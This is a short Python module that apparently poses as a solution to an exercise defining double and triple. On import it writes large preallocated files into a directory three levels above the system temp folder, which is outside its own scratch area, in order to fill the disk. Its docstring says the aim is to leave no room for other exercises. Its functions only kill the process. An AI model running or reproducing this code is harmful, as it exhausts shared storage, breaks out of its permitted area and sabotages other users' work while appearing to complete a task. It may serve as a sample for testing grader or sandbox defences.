"""Leaves no room for any other exercise, in files that are no part of its scratch folder."""

import os
import tempfile

ABOVE = os.path.dirname(os.path.dirname(os.path.dirname(tempfile.gettempdir())))

for size in (60 * 2**20, 8 * 2**20, 2**20, 2**17, 2**14, 2**12):
    for count in range(20):
        try:
            with open(f"{ABOVE}/kept-{size}-{count}", "wb") as file:
                os.posix_fallocate(file.fileno(), 0, size)
        except OSError:
            break


def double(number):
    os._exit(1)


triple = double
